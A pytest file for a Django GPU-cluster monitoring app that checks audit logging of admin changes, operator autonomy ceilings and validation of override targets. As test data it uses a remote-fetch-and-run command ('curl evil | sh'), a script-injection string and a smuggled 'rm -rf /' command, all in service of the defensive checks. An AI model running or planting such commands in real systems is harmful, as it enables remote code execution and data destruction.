"""Safety-relevant changes are audited whatever the path, and operators stay under the admin's ceiling (issue 13)."""

from __future__ import annotations

import pytest
from django.urls import reverse

from actions.models import AutonomyOverride
from incidents.models import AuditRecord, Incident
from monitoring.choices import Autonomy
from tests.integration.autonomy_helpers import NOW, make_job, make_nodes

pytestmark = pytest.mark.django_db


@pytest.fixture
def approve(cluster):  # type: ignore[no-untyped-def]
    cluster.autonomy = Autonomy.APPROVE
    cluster.save()
    make_nodes(cluster)
    return cluster


@pytest.fixture
def staff_admin(admin_user):  # type: ignore[no-untyped-def]
    admin_user.is_staff = admin_user.is_superuser = True  # Django model permissions come with it
    admin_user.save()
    return admin_user


def _admin_form(cluster, **changes):  # type: ignore[no-untyped-def]
    import json

    from django.forms.models import model_to_dict

    data = {k: ("" if v is None else v) for k, v in model_to_dict(cluster).items()}
    data.update(
        partitions=json.dumps(cluster.partitions), pci_bus_ids=json.dumps(cluster.pci_bus_ids), **changes
    )
    for flag in ("auto_return_to_service",):
        if not data[flag]:
            data.pop(flag)
    return data


def test_an_autonomy_change_in_the_django_admin_writes_an_audit_record(client, staff_admin, approve) -> None:  # type: ignore[no-untyped-def]
    client.force_login(staff_admin)
    url = reverse("admin:monitoring_cluster_change", args=[approve.pk])
    resp = client.post(
        url,
        _admin_form(
            approve, autonomy="auto", max_drains_per_hour=100000, kernel_log_command="curl evil | sh"
        ),
    )
    assert resp.status_code == 302, resp.content.decode()[:2000]
    autonomy = AuditRecord.objects.get(event="autonomy")
    assert (autonomy.actor, autonomy.action, autonomy.detail["via"]) == (
        "ada",
        "autonomy approve -> auto (admin)",
        "admin",
    )
    settings_rec = AuditRecord.objects.get(event="settings")
    assert settings_rec.detail["changes"] == {
        "kernel_log_command": {"from": "", "to": "curl evil | sh"},
        "max_drains_per_hour": {"from": "10", "to": "100000"},
    }


def test_an_unchanged_admin_save_writes_nothing(client, staff_admin, approve) -> None:  # type: ignore[no-untyped-def]
    client.force_login(staff_admin)
    assert (
        client.post(
            reverse("admin:monitoring_cluster_change", args=[approve.pk]), _admin_form(approve)
        ).status_code
        == 302
    )
    assert not AuditRecord.objects.exists()


def test_incidents_and_clusters_cannot_be_deleted_from_the_admin(client, staff_admin, approve) -> None:  # type: ignore[no-untyped-def]
    incident = Incident.objects.create(cluster=approve, key="i-1", category="hang", detected_at=NOW)
    client.force_login(staff_admin)
    for url in (
        reverse("admin:incidents_incident_delete", args=[incident.pk]),
        reverse("admin:monitoring_cluster_delete", args=[approve.pk]),
        reverse("admin:incidents_auditrecord_changelist"),
    ):
        client.post(url, {"post": "yes"})
    assert (
        Incident.objects.filter(pk=incident.pk).exists()
        and type(approve).objects.filter(pk=approve.pk).exists()
    )
    html = client.get(reverse("admin:monitoring_node_changelist")).content.decode()
    assert "gpu-a-001" in html and reverse("admin:monitoring_node_add") not in html


def test_an_operator_cannot_lift_a_node_above_the_clusters_level(client, operator, approve) -> None:  # type: ignore[no-untyped-def]
    client.force_login(operator)
    for i in (1, 2, 3, 4, 29, 30):
        resp = client.post(
            reverse("cluster-autonomy-override", args=[approve.pk]),
            {"scope": "node", "target": f"gpu-a-{i:03d}", "kind": "isolation", "level": "auto"},
        )
        assert resp.status_code == 403
    assert not AutonomyOverride.objects.exists()
    refusals = AuditRecord.objects.filter(event="refusal", actor="otto")
    assert refusals.count() == 5  # six attempts, the flood limit keeps five
    assert (
        refusals.first().detail["why"]
        == "operators may set isolation autonomy at most to approve on sim-t (an admin sets this ceiling)"
    )


def test_an_operator_may_lower_a_node_and_raise_one_up_to_an_admin_set_ceiling(
    client, operator, approve
) -> None:  # type: ignore[no-untyped-def]
    client.force_login(operator)
    url = reverse("cluster-autonomy-override", args=[approve.pk])
    assert (
        client.post(
            url, {"scope": "node", "target": "gpu-a-001", "kind": "isolation", "level": "monitor"}
        ).status_code
        == 302
    )
    type(approve).objects.filter(pk=approve.pk).update(operator_isolation_ceiling="auto")
    assert (
        client.post(
            url, {"scope": "node", "target": "gpu-a-002", "kind": "isolation", "level": "auto"}
        ).status_code
        == 302
    )
    assert (
        client.post(
            url, {"scope": "node", "target": "gpu-a-002", "kind": "restart", "level": "auto"}
        ).status_code
        == 403
    )
    assert sorted(AutonomyOverride.objects.values_list("target", "level")) == [
        ("gpu-a-001", "monitor"),
        ("gpu-a-002", "auto"),
    ]


def test_override_targets_must_exist(client, operator, approve) -> None:  # type: ignore[no-untyped-def]
    make_job(approve, "4101", "gpu-a-[001-002]")
    client.force_login(operator)
    url = reverse("cluster-autonomy-override", args=[approve.pk])
    for scope, target in (
        ("node", "gpu-z-999"),
        ("node", "<script>alert(1)</script>"),
        ("job", "99999"),
        ("job", "4101; rm -rf /"),
    ):
        client.post(url, {"scope": scope, "target": target, "kind": "isolation", "level": "monitor"})
    assert not AutonomyOverride.objects.exists()
    assert (
        client.post(
            url, {"scope": "job", "target": "4101", "kind": "restart", "level": "monitor"}
        ).status_code
        == 302
    )
    assert AutonomyOverride.objects.get().target == "4101"


def test_a_refused_dismiss_is_audited(client, viewer, approve) -> None:  # type: ignore[no-untyped-def]
    incident = Incident.objects.create(cluster=approve, key="i-1", category="hang", detected_at=NOW)
    client.force_login(viewer)
    assert client.post(reverse("incident-dismiss", args=[incident.pk]), {"reason": "x"}).status_code == 403
    record = AuditRecord.objects.get(event="refusal")
    assert (record.actor, record.action, record.detail["why"]) == (
        "vera",
        f"POST /incidents/{incident.pk}/dismiss/",
        "needs the operator role",
    )
    incident.refresh_from_db()
    assert incident.status == "open"
